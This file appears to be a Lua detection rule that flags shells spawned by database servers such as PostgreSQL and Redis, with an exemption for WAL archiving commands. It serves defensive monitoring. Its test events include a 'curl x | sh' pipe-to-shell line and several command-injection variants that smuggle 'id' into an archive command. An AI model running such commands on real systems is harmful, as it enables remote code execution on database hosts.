local lists = require "moonwatch.lists"
local match = require "moonwatch.match"

--- What PostgreSQL itself has run by a shell: archiving.
local own_helpers = { "pg_wal/", "pg_xlog/", "wal-g ", "pgbackrest ", "barman" }

--- The archive_command of PostgreSQL's manual: its two commands, and no third.
local manual = "* -c test ! -f * && cp pg_wal/*"

local function is_archiving(process)
  local cmdline = process.cmdline
  if not match.contains_any(cmdline, own_helpers) then
    return false
  end
  return match.is_single_command(cmdline)
    or (match.glob(cmdline, manual) and not match.glob(cmdline, "*&*&*&*")
      and not match.has_any(cmdline, ";|`$()<>#\n"))
end

return {
  id = "shell_from_database",
  summary = "Shell started by a database server",
  why = "A database server that starts a shell runs code of whoever may speak SQL to it, "
    .. "or was given a module.",
  on = { "process.exec" },
  severity = "high",
  attack = { "T1190", "T1059.004" },
  message = "{process.parent.name} started {process.cmdline} as {process.user}",
  false_positives = {
    "archive_command and restore_command of PostgreSQL other than those named here",
  },
  where = { names = lists.shells, parents = lists.databases },
  match = function(event)
    return not is_archiving(event.process)
  end,
  examples = {
    { expect = true, event = { process =
      { name = "sh", argv = { "sh", "-c", "curl x | sh" }, parent = { name = "postgres" } } } },
    { expect = true, event = { process = { name = "bash", parent = { name = "redis-server" } } } },
    { note = "a helper's name does not excuse more", expect = true, event = { process = { name = "sh",
      argv = { "sh", "-c", "id; wal-g x" }, parent = { name = "postgres" } } } },
    { expect = false, event = { process = { name = "sh",
      argv = { "sh", "-c", "wal-g wal-push pg_wal/1" }, parent = { name = "postgres" } } } },
    { expect = false, event = { process = { name = "sh",
      argv = { "sh", "-c", "test ! -f /a/1 && cp pg_wal/1 /a/1" }, parent = { name = "postgres" } } } },
    { expect = false, event = { process = { name = "sh",
      argv = { "sh", "-c", "/usr/bin/postgres --version" }, parent = { name = "initdb" } } } },
    { note = "more than the manual has", expect = true, event = { process = { name = "sh",
      argv = { "sh", "-c", "test ! -f /a/1 && cp pg_wal/1 /a/1 && id" }, parent = { name = "postgres" } } } },
    { expect = true, event = { process = { name = "sh", argv = { "sh", "-c", "cp pg_wal/1 /a/1 & id" },
      parent = { name = "postgres" } } } },
    { expect = true, event = { process = { name = "sh", argv = { "sh", "-c", "test ! -f /a/1 && cp pg_wal/1 $(id)" },
      parent = { name = "postgres" } } } },
  },
}
